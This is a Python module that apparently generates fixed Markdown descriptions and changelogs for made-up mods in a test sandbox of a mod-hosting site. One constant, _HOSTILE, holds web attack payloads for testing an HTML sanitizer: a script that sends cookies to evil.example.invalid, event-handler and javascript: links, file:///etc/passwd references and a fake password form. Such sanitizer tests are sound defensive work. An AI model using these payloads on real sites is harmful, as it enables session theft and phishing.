"""The Markdown of projects and versions: composed from a project's own words, the same every time."""

from __future__ import annotations

from random import Random
from zlib import crc32

from modstead_sandbox.model import Project, Version

_LANTERNWORKS = """# A warmer night

Lanternworks turns the lantern from a block into something you carry, hang and care for. Light follows your hand and
falls on what is near, so a cave is dark again where you are not.

![Night market with hanging chains]({base}/images/1.png)

*Night market with hanging chains*

## What it adds

- Chains, hooks and posts in every wood and in copper, with weathering
- Sixteen dyed glasses; two dyes side by side mix on the wall
- Oil as fuel, off by default: `lantern.oil = false`

## Before you install

Works with Cinder Render 1.9 and later. Servers need nothing; if they have it, players see each other's light.

> Coming from version 2? Old lamps keep their place; their oil is refilled once.

| Lamp | Light | Burns for |
| --- | :-: | --: |
| Tin lantern | 11 | 40 min |
| Copper lantern | 13 | 60 min |
| Storm lantern | 15 | all night |
"""

_PETRICHOR = """# Petrichor

The ground after rain: puddles, worms and a darker green.

> **No longer maintained.** Heather Moors continues it: <https://modrinth.com/mod/heather-moors>

Thanks to everybody who walked through the wet grass.
"""

_OWN = {"Lanternworks": _LANTERNWORKS, "Petrichor": _PETRICHOR}

_PROMISES = (
    "It stays out of your way until you need it.",
    "Nothing here asks for a wiki: what you see is how it works.",
    "Made for worlds that are meant to last.",
    "Everything can be switched off by itself.",
    "It has been running on a server of twelve friends for two years.",
)
_FEATURES = (
    "Works with **every wood** and every stone, also those of other mods",
    "Costs less than `0.1 ms` per tick on a small server",
    "Recipes are shown where you need them",
    "Sounds by people who were there",
    "Translated into fourteen languages",
    "Settings in the game, and as a plain file: `config/{mod_id}.toml`",
    "Old worlds keep working; nothing is removed when you update",
    "A key to switch it off for a screenshot, <kbd>H</kbd> by default",
    "Tags and data files, so that packs can change what they like",
)
_QUESTIONS = (
    ("Can I use it in a pack?", "Yes, gladly. A link back would be kind."),
    ("Does the server need it?", "See the sides on the right: they are kept up to date."),
    ("Will there be a version for my loader?", "If it is not in the list, not at the moment."),
    (
        "I found a mistake.",
        "Please write it down in the [issue tracker](https://mods.example.invalid/{slug}/issues).",
    ),
)
_HOSTILE = """
<script>document.location = "https://evil.example.invalid/steal?" + document.cookie</script>
<img src="x" onerror="alert('picture')">
<iframe src="https://evil.example.invalid/frame" width="600" height="400"></iframe>
<style>body { display: none } p { background: url("file:///etc/passwd") }</style>
<form action="https://evil.example.invalid/login"><input name="password" type="password"><button>Sign in</button></form>
<a href="javascript:alert('link')">A link that is a script</a>,
<a href="file:///etc/passwd">a link to your files</a>,
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a link that is a page</a>,
[a script in Markdown](javascript:alert('markdown')), [a file in Markdown](file:///C:/Windows/win.ini),
<img src="file:///etc/hostname" width="100"> <svg onload="alert('drawing')"><circle r="40"/></svg>
<object data="file:///etc/passwd"></object><embed src="file:///etc/passwd"><base href="https://evil.example.invalid/">
<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: red" onclick="alert('style')">A
paragraph that would like to cover the window.</p>
<a href="https://mods.example.invalid/{slug}" onmouseover="alert('hover')">An honest link with a bad habit</a>
<!-- a comment that never ends <script>alert('comment')</script>
-->

This sentence comes after all of that, and must still be there to read.
"""

_CHANGES = (
    "Fixes a stall when 4,000 chests are indexed at once",
    "Copper is weathered like everything else",
    "Middle click marks a container",
    "No longer forgets its settings after a crash",
    "Sounds stop when the world is left",
    "Half the memory on large servers",
    "A warning where two mods want the same key",
    "Recipes for the new woods",
    "Better on small screens",
    "Italian, by *a friend*",
    "Fixes [#{issue}](https://mods.example.invalid/{slug}/issues/{issue}): items lost at chunk borders",
    "The tooltip says how long it takes",
)


def body(project: Project) -> str:
    """Return the Markdown of a project; `{base}` in it stands for the address of the project's files."""
    if project.title in _OWN:
        return _OWN[project.title]
    random = Random(project.number * 31 + 5)
    parts = [_opening(project, random), _features(project, random)]
    if random.random() < 0.5:
        parts.append(_table(project, random))
    if random.random() < 0.45:
        parts.append(_fold(project, random))
    if random.random() < 0.35:
        parts.append(_plan(random))
    if random.random() < 0.4:
        parts.append(
            "\n```toml\n["
            + project.mod_id
            + "]\nenabled = true\nrange = "
            + str(random.randint(4, 64))
            + "\n```\n"
        )
    if project.hostile:
        parts.append(_HOSTILE.replace("{slug}", project.slug))
    parts.append(_closing(project, random))
    return "\n".join(parts)


def changelog(project: Project, version: Version) -> str | None:
    """Return the Markdown of what changed, the same for all versions of one release; a few have none."""
    random = Random(version.project_number * 1_009 + crc32(version.core.encode()))
    if random.random() < 0.06:
        return None
    lines = random.sample(_CHANGES, random.randint(1, 4))
    listed = "\n".join(f"- {line}" for line in lines)
    text = listed.replace("{slug}", project.slug).replace("{issue}", str(random.randint(3, 420)))
    if random.random() < 0.3:
        text = f"## {version.core}\n\n{text}\n\n**Game version:** {', '.join(version.game_versions)}"
    return text


def _opening(project: Project, random: Random) -> str:
    banner = f'<center><img src="{{base}}/images/{random.randrange(2)}.png" width="560" alt="{project.title}"></center>'
    plain = f"![{project.title}]({{base}}/images/{random.randrange(2)}.png)"
    picture = random.choice((banner, plain, ""))
    return f"# {project.title}\n\n{project.description} {random.choice(_PROMISES)}\n\n{picture}\n"


def _features(project: Project, random: Random) -> str:
    chosen = random.sample(_FEATURES, random.randint(3, 5))
    lines = "\n".join(f"- {line}".replace("{mod_id}", project.mod_id) for line in chosen)
    return f"## What it does\n\n{lines}\n"


def _table(project: Project, random: Random) -> str:
    rows = "\n".join(
        f"| {name} | {random.randint(1, 40)} | {random.choice(('yes', 'no', 'soon'))} |"
        for name in random.sample(("Oak", "Birch", "Copper", "Slate", "Linen", "Clay", "Amber"), 4)
    )
    return f"## {project.title} in numbers\n\n| Kind | Blocks | In survival |\n| :-- | --: | :-: |\n{rows}\n"


def _fold(project: Project, random: Random) -> str:
    chosen = random.sample(_QUESTIONS, 2)
    inside = "\n\n".join(f"**{question}**  \n{answer}" for question, answer in chosen)
    return f"<details>\n<summary>Questions, answered</summary>\n\n{inside}\n\n</details>\n".replace(
        "{slug}", project.slug
    )


def _plan(random: Random) -> str:
    return (
        "### What comes next\n\n"
        f"- [x] A settings screen\n- [{random.choice('x ')}] Support for shaders\n- [ ] Sound by distance\n"
    )


def _closing(project: Project, random: Random) -> str:
    thanks = random.choice(("Thanks to everybody who tried it early.", "Have a good evening.", ""))
    return (
        f"---\n\n{thanks}\n\nSource and wiki: <https://mods.example.invalid/{project.slug}>, "
        f"licence: {project.licence}. ~~No~~ few bugs known.\n"
    )
